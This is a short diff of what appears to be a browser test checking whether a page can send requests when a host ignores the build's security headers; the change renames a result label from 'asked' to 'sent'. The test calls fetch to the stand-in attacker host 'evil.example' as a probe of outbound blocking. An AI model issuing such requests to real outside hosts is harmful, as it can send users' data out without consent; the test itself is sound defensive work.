@@ -184,7 +184,7 @@ test.describe('on a host that ignores the headers of the build', () => {
       watch.allowHost('evil.example');
       const tried = await page.evaluate(async () => {
         const requested = await fetch('https://evil.example/typed').then(
-          () => 'asked',
+          () => 'sent',
           () => 'refused',
         );
         const loaded = await new Promise((resolve) => {
